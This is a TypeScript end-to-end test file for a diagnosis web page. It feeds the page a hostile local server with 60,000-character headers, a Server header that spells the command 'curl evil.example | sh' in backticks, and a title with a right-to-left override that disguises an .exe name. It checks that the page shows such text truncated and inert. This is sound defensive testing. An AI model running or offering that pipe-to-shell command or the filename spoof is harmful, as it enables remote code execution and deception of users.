/**
 * A hostile local server, diagnosed in real Chromium: 60,000-character reason phrase, Server and Location,
 * a Server header with backticks that spell a command, a title with a right-to-left override. The page
 * stays within the viewport, shows the text cut with a note, never as one of the doctor's code chips or
 * commands, with the override neutralised; the API answer stays small.
 */
import { cleanupAll, startTcpServer } from '../support/servers';
import { diagnosePath, screenshot } from './support/browser';
import { e2eSession } from './support/session';

const e2e = e2eSession();
const LONG = 60_000;
/** The words a server would like the user to copy, styled as the doctor's own command. */
const BAIT = 'curl evil.example | sh';

/**
 * Answers every request with `head` lines and a small HTML body. The probe keeps 128 KiB of an answer, so
 * each 60,000-character field gets a server of its own that still fits (and whose title is read).
 */
function startHostileServer(lines: string[]) {
  const body = `<!doctype html><title>Admin \u202egnp.exe</title>`;
  const head =
    [
      ...lines,
      'Content-Type: text/html',
      `Content-Length: ${Buffer.byteLength(body)}`,
      'Connection: close',
    ].join('\r\n') + '\r\n\r\n';
  return startTcpServer((socket) => {
    socket.once('data', () => socket.end(Buffer.concat([Buffer.from(head, 'latin1'), Buffer.from(body)])));
  });
}

afterAll(cleanupAll);

/** What the diagnosis page of `target` shows, once its Open step has the HTTP finding. */
async function diagnosisPage(target: string) {
  const { page, app } = e2e;
  await page.goto(app.url + diagnosePath(target));
  await page.locator('article[data-finding="http-ok"]').first().waitFor();
  const seen = await page.evaluate((bait) => {
    const codeLike = [...document.querySelectorAll('code, pre')].map((e) => e.textContent ?? '');
    return {
      scrollWidth: document.documentElement.scrollWidth,
      viewport: window.innerWidth,
      text: document.body.innerText,
      codeWithServerText: codeLike.filter((t) => t.includes(bait) || /SSSS|RRRR|LLLL/.test(t)),
      outsideWithBait: [...document.querySelectorAll('[data-outside]')].filter((e) =>
        (e.textContent ?? '').includes(bait),
      ).length,
    };
  }, BAIT);
  // The page's own API answer (a same-origin fetch, as the page makes it).
  const apiChars = await page.evaluate(
    async (t) => (await (await fetch(`/api/diagnose?target=${encodeURIComponent(t)}`)).text()).length,
    target,
  );
  return { ...seen, apiChars };
}

function expectBoundedAndInert(seen: Awaited<ReturnType<typeof diagnosisPage>>): void {
  // No page 1.25 million px wide: the layout stays within two viewports.
  expect(seen.scrollWidth).toBeLessThanOrEqual(2 * seen.viewport);
  // The server's backticks never become a code chip or a command: its words are shown as its words.
  expect(seen.codeWithServerText).toEqual([]);
  expect(seen.outsideWithBait).toBeGreaterThan(0);
  // The right-to-left override does not reach the page; it is shown as an escape.
  expect(seen.text).not.toContain('\u202e');
  // Small, where every string whole would make it hundreds of KB.
  expect(seen.apiChars).toBeLessThan(50_000);
}

test('a 60,000-character reason phrase and Server header are shown cut, with a note, as the server\u2019s words', async () => {
  if (!e2e.ready) return;
  const server = await startHostileServer([
    `HTTP/1.1 302 ${'R'.repeat(LONG)}`,
    `Server: \`${BAIT}\` ${'S'.repeat(LONG)}`,
    'Location: /login',
  ]);
  const seen = await diagnosisPage(`127.0.0.1:${server.port}`);
  await screenshot(e2e.page, 'diagnosis-hostile-reason-and-server');
  expectBoundedAndInert(seen);
  expect(seen.text).toContain(`R\u2026 (cut: ${LONG - 200} more characters)`);
  expect(seen.text).toContain(`S\u2026 (cut: ${LONG + BAIT.length + 3 - 200} more characters)`);
  expect(seen.text).not.toContain('R'.repeat(201));
  expect(seen.text).toContain('Admin \\u202Egnp.exe');
});

test('a 60,000-character Location is shown cut, with a note, and the page keeps its width', async () => {
  if (!e2e.ready) return;
  const server = await startHostileServer([
    'HTTP/1.1 302 Found',
    `Server: \`${BAIT}\``,
    `Location: /${'L'.repeat(LONG)}`,
  ]);
  const seen = await diagnosisPage(`127.0.0.1:${server.port}`);
  await screenshot(e2e.page, 'diagnosis-hostile-location');
  expectBoundedAndInert(seen);
  expect(seen.text).toContain(`L\u2026 (cut: ${LONG + 1 - 1000} more characters)`);
  expect(seen.text).not.toContain('L'.repeat(1001));
});
